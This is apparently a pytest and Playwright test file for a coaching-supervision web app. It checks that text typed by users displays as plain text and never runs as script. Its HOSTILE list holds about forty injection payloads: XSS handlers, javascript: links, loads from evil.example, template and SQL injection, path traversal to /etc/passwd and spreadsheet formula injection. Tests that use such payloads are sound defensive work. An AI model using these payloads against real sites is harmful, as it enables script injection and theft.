"""Words that try to be more than words are shown exactly as they were typed."""

import re
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from playwright.sync_api import Page, expect

from cascade_tools.model.consent import KEEP
from cascade_tools.model.people import Held, Person, Role, Session
from cascade_tools.model.prompts import Kind
from cascade_tools.shelf import open_shelf
from tests.faults.nursery import QuickHouse
from tests.faults.pages import COACH, LEADER, put, share
from tests.faults.visitor import Visitor
from tests.living import PASSPHRASE
from tests.server.visitor import Visitor as Visitors

RUN = "window.pwned=1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style></script><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN}>press me</a>",
    f"[press me](javascript:{RUN})",
    f"![x](x){{onerror={RUN}}}",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<style>@import '//evil.example/x.css'</style><p style=x:expression({RUN})>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;b&gt;already written so&lt;/b&gt; &amp;amp; &#60;i&#62;",
    f"{{{{ 7*7 }}}} {{% for x in y %}} {{# {RUN} #}}",
    f"${{{RUN}}} #{{7*7}} <%= 7*7 %> `{RUN}`",
    "{{ settings }} {{ self.__init__.__globals__ }}",
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{x3c}\\)",
    "# A heading\n- a list\n> a quote\n\n---\n**bold** `code`",
    "'; DROP TABLE answer; --",
    "../../../../etc/passwd\\..\\..%2e%2e%2f",
    "=1+1 +1 -1 @SUM(A1)\t|' /C calc'!A0",
    "\u202egnitirw sdrawkcab\u202c and \u2066isolated\u2069",
    "العربية ואז עברית 中文 ไทย हिन्दी",
    "👩🏽‍🤝‍👩🏻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🧑‍🧑‍🧒‍🧒",
    "zero\u200bwidth\u200djoin\u2060er\ufeff",
    "Z̷̢̛͓̼̖̫a̶͎l̵̰̊g̷͖̈́o̴̬̽",
    "\u0001\u0008\u001b[31mred\u007f".replace("\u0001", ""),
    "x" * 3000 + f"<img src=x onerror={RUN}>",
    f"{'<b>' * 300}deep{'</b>' * 300}<script>{RUN}</script>",
]
# Long boxes, the page each stands on, and how many there are to a sheet.
BOXES = {
    "moment-they-said": "a-moment",
    "moment-i-said": "a-moment",
    "moment-might-have-said": "a-moment",
    "what-happened": "what-happened",
    "not-said": "what-was-not-said",
    "question-landed": "the-question-that-landed",
    "want-from-supervision": "talking-it-over",
    "who-else-was-there": "who-else-was-there",
    "own-team-question": "back-at-my-place",
    "test-idea-with": "an-idea-to-test",
}
SHEETS = len(HOSTILE) // len(BOXES)
# What must not be there, however it got there: anything that ran, was fetched or made.
TRACES = """() => ({
    ran: 'pwned' in window,
    made: [...document.querySelectorAll(
        'main img, main iframe, main script:not([type="application/json"]), main base, main meta,'
        + 'main link, main b, main math, main form[action*=evil], main a[href*=javascript i],'
        + 'main [onerror], main [onload], main [onfocus], main [ontoggle], main svg script'
    )].map((el) => el.outerHTML.slice(0, 200)),
})"""
NOTHING = {"ran": False, "made": []}


def _watch(page: Page) -> list[str]:
    """Every sign of a script or of a request to somewhere else."""
    signs: list[str] = []

    def asked(url: str) -> None:
        if "evil.example" in url or url.endswith(("/x", "/x.js", "/x.css")):
            signs.append(url)

    page.on("request", lambda request: asked(request.url))
    page.on("dialog", lambda dialog: (signs.append(dialog.message), dialog.dismiss()))  # type: ignore[func-returns-value]
    page.on("console", lambda m: signs.append(m.text) if "Content Security" in m.text else None)
    return signs


def _as_typed(page: Page, words: str) -> bool:
    """Whether exactly these words stand somewhere on the page, as text."""
    return bool(
        page.evaluate(
            """(words) => [...document.querySelectorAll('dd, td, text, tspan, q, li, span, p')]
                .some((el) => el.textContent.trim() === words.trim())""",
            words,
        )
    )


@pytest.fixture(scope="module")
def zoe(house: QuickHouse) -> Person:
    """A coach of Sue's whose leader's place has a hostile name, and four sheets full of words."""
    with house.records() as records:
        person = records.people.add(f"Zoe <img src=x onerror={RUN}>", [Role.COACH], "01632 960107")
        code = records.signing_in.invite(person.id, "test")
        records.signing_in.accept(code, PASSPHRASE)
        records.consents.decide(person.id, KEEP, True, house.notice)
        records.people.supervise(house.people["sue"].id, person.id)
        today = datetime.now(UTC).date()
        pair = records.people.pair(person.id, None, f"place <img src=x onerror={RUN}>", today)
        entries = []
        for number in range(1, SHEETS + 1):
            session = records.people.add_session(pair, Session("", number, today, Held.HELD))
            start = records.entries.start
            entries.append(start(person.id, COACH, pair_id=pair, session_id=session).id)
    house.people["zoe"] = person
    words = iter(HOSTILE)
    for entry in entries:
        answers = {key: next(words)[: 190 if key == "test-idea-with" else None] for key in BOXES}
        put(house, entry, "zoe", way="longer", talk="today", **answers)
        visitor = Visitor(house, "zoe")
        share(visitor, entry, *dict.fromkeys(BOXES.values()))
    return person


def test_there_are_forty_hostile_texts() -> None:
    """As many as the trust tests ask for, all different."""
    assert len(set(HOSTILE)) == len(HOSTILE) == 40


def test_hostile_words_are_only_words_to_the_supervisor(
    house: QuickHouse, visit: Callable[..., Page], zoe: Person
) -> None:
    """In everything a coach shared, in the overview and across the sessions, no script runs,
    nothing is made of the words, nothing is fetched, and they stand there as they were typed."""
    with house.records() as records:
        shared = {s.entry_id: s.snapshot_id for s in records.sharing.of(zoe.id)}
    assert len(shared) == SHEETS
    page = visit(house, "sue")
    signs = _watch(page)
    seen: set[str] = set()
    for snapshot in shared.values():
        page.goto(f"{house.url}shared/{snapshot}")
        page.locator("article.shared").wait_for()
        assert page.evaluate(TRACES) == NOTHING
        seen |= {words for words in HOSTILE if _as_typed(page, words)}
    short = {w for w in HOSTILE if w[:190] != w}
    assert set(HOSTILE) - seen <= short
    assert len(seen) >= len(HOSTILE) - SHEETS
    for path in ("", "workbooks/supervisor/my-overview", "me"):
        page.goto(house.url + path)
        if path.endswith("overview"):
            page.locator(".overview table").wait_for()
        assert page.evaluate(TRACES) == NOTHING
    page.goto(f"{house.url}workbooks/supervisor/my-overview")
    across = page.locator(f'.overview a[href*="/coaches/{zoe.id}/"]')
    addresses = across.evaluate_all("links => links.map(a => a.href)")
    assert addresses
    for address in addresses:
        page.goto(address)
        page.locator(".issue").first.wait_for()
        assert page.evaluate(TRACES) == NOTHING
    assert signs == []


def test_hostile_words_are_only_words_to_their_author(
    house: QuickHouse, visit: Callable[..., Page], zoe: Person
) -> None:
    """In the boxes, among the answers to check, in the preview and on the author's own page."""
    with house.records() as records:
        shared = [(s.entry_id, s.snapshot_id) for s in records.sharing.of(zoe.id)]
    page = visit(house, None)
    signs = _watch(page)
    page.goto(house.url + "sign-in")
    page.get_by_label("Your name").fill(zoe.name)
    page.get_by_label("Your passphrase").fill(PASSPHRASE)
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.get_by_role("heading", name="Hello").wait_for()
    for entry, snapshot in shared:
        for path in (f"entries/{entry}/check", f"shared/{snapshot}", f"entries/{entry}"):
            page.goto(house.url + path)
            assert page.evaluate(TRACES) == NOTHING
        boxes = page.evaluate("[...document.querySelectorAll('textarea')].map((t) => t.value)")
        assert len({b for b in boxes if b in HOSTILE}) >= len(BOXES) - 2
    for path in ("", "me"):
        page.goto(house.url + path)
        assert page.evaluate(TRACES) == NOTHING
    assert signs == []


def test_hostile_words_in_a_picture_are_only_words(
    house: QuickHouse, visit: Callable[..., Page]
) -> None:
    """The iceberg shows a person's own words: in the page's picture and in the kernel's."""
    keys = ("presenting", "pattern", "relationships", "up", "summary", "bring-to-coach")
    page = visit(house, "leo")
    signs = _watch(page)
    with house.records() as records:
        entry = records.entries.start(house.people["leo"].id, LEADER).id
    for start in (0, 4, 14, 24):
        words = dict(zip(keys, HOSTILE[start : start + len(keys)], strict=True))
        put(house, entry, "leo", LEADER, after_presenting="on", after_pattern="on", **words)
        page.goto(f"{house.url}entries/{entry}?page=your-iceberg")
        kernels = page.locator(".place [data-cell]:not(.arriving) .picture")
        expect(kernels).to_have_count(1, timeout=60_000)
        assert page.evaluate(TRACES) == NOTHING
    assert signs == []


# Pages of a pair, of one's own, and what stands before sharing: read as a browser would build them,
# without one.

_PLAIN = (
    "a article aside blockquote br button caption code dd details div dl dt em fieldset footer "
    "form h1 h2 h3 h4 header i input label legend li main mark nav ol option p q section select "
    "small span strong summary table tbody td textarea tfoot th thead time tr ul"
)
PLAIN = frozenset(_PLAIN.split())


class Built(HTMLParser):
    """What a page is made of: its texts, and whatever on it is not one of our plain elements."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.strange: list[str] = []
        self._main = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._main = self._main or tag == "main"
        if not self._main:
            return
        values = " ".join(value or "" for name, value in attrs if name in ("href", "src", "action"))
        listens = [name for name, _ in attrs if name.startswith("on") or name == "style"]
        if tag not in PLAIN or listens or "evil" in values or "javascript" in values.lower():
            self.strange.append(f"{tag} {attrs}")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def _half(house: QuickHouse, who: str, workbook: str, words: Sequence[str], together: str) -> str:
    """A sheet of a pair with hostile words in every box of it that takes words; its id."""
    shelf = open_shelf()
    boxes = [p for p in shelf.get(workbook).prompts if p.kind in (Kind.LONG, Kind.TEXT)]
    with house.records() as records:
        person = house.people[who].id
        entry = records.entries.start(person, workbook, pair_id=house.pair, together=together)
        short = [(p, w if p.kind is Kind.LONG else w[:190]) for p, w in zip(boxes, words)]  # noqa: B905
        records.entries.save_sheet(person, entry.id, short, "test")
    return entry.id


@pytest.fixture(scope="module")
def pages(house: QuickHouse) -> dict[str, str]:
    """Every page that shows the words of a pair, or of one's own, by its name."""
    amina, leo = Visitors(house, "amina"), Visitors(house, "leo")
    found = {}
    halves = {
        who: _half(house, who, "pair/agreeing-how-we-will-work", HOSTILE[at:], "sealed")
        for who, at in (("amina", 0), ("leo", 18))
    }
    names = [name[:90] for name in HOSTILE if "\n" not in name]
    amina.post("me/names", {"names": "\n".join([*names, "script", "img", "onerror"])})
    agreement = _half(house, "amina", "pair/our-agreement", HOSTILE[20:], "")
    for who, visitor in (("amina", amina), ("leo", leo)):
        entry = halves[who]
        found[f"{who}: seal"] = _pressed(visitor, entry, f"together/{entry}/seal")
    for who, visitor in (("amina", amina), ("leo", leo)):
        found[f"{who}: side by side"] = visitor.get(f"together/{halves[who]}").text
        found[f"{who}: checked"] = visitor.get(f"entries/{halves[who]}/check").text
        found[f"{who}: written"] = visitor.get(f"entries/{halves[who]}").text
    other = house.people["leo"].id
    found["amina: as seen"] = amina.get(f"entries/{agreement}/as/{other}").text
    found["amina: names"] = amina.get("me/names").text
    found["amina: agreement, checked"] = amina.get(f"entries/{agreement}/check").text
    found["amina: proposal"] = _pressed(amina, agreement, f"entries/{agreement}/propose")
    for who, visitor in (("amina", amina), ("leo", leo)):
        found[f"{who}: agreement"] = visitor.get(f"pairs/{house.pair}/agreement").text
        for path in ("", "me", "me/data", "me/data/page", f"pairs/{house.pair}"):
            found[f"{who}: {path or 'home'}"] = visitor.get(path).text
    _send(house)
    lead = Visitors(house, "pat")
    found["pat: sent"] = lead.get("sent").text
    one = re.search(r"/(sent/[0-9a-f]{32})", found["pat: sent"])
    assert one is not None
    found["pat: sent, one"] = lead.get(one[1]).text
    return found


def _send(house: QuickHouse) -> None:
    """What somebody without an account sends, and what is said of a workbook: in hostile words."""
    answers = [{"question": w, "words": w} for w in HOSTILE]
    rule = {"name": HOSTILE[2], "standing": "met", "sentence": HOSTILE[3]}
    body = {"title": HOSTILE[0], "pages": [{"title": HOSTILE[1], "answers": answers}], "last": []}
    with house.records() as records:
        records.submissions.send(
            "leader/is-this-for-me", {**body, "joining": [rule], "bursary": [rule]}
        )
        for words in HOSTILE:
            records.feedback.give("leader/is-this-for-me", "yes", words[:200])


def _pressed(visitor: Visitors, entry: str, path: str) -> str:
    """The preview of sealing or proposing everything, and then the second press."""
    check = visitor.get(f"entries/{entry}/check").text
    fields = {n: re.findall(rf'name="{n}"[^>]* value="([\w-]+)"', check) for n in ("part", "tick")}
    preview = visitor.post(path, fields)
    assert preview.status == 200, preview.text
    seen = re.search(r'name="seen" value="([0-9a-f]+)"', preview.text)
    assert seen is not None
    assert visitor.post(path, {**fields, "seen": [seen[1]]}).status == 302
    return preview.text


def test_hostile_words_of_a_pair_and_of_strangers_are_only_words(
    house: QuickHouse, pages: dict[str, str]
) -> None:
    """Sealed, side by side, proposed, checked for details, listed, sent: nothing is made of
    the words on any page, and those who may read them find them as they were typed."""
    for name, html in pages.items():
        assert Built(html).strange == [], name
    assert "<mark>" in pages["amina: proposal"]
    for who in ("amina", "leo"):
        texts = "".join(Built(pages[f"{who}: side by side"]).texts)
        put_in = [words for half in ("amina", "leo") for words in _put_in(house, half)]
        assert len(put_in) >= 20
        assert [words for words in put_in if words not in texts] == [], who


def _put_in(house: QuickHouse, who: str) -> list[str]:
    """The words this half of the pair put in."""
    with house.records() as records:
        person = house.people[who].id
        (sealed,) = [s for s in records.sharing.of(person) if s.kind == "sealed"]
        body = records.sharing.read(person, sealed.snapshot_id).document.body
        return [a["words"] for page in body["pages"] for a in page["answers"]]
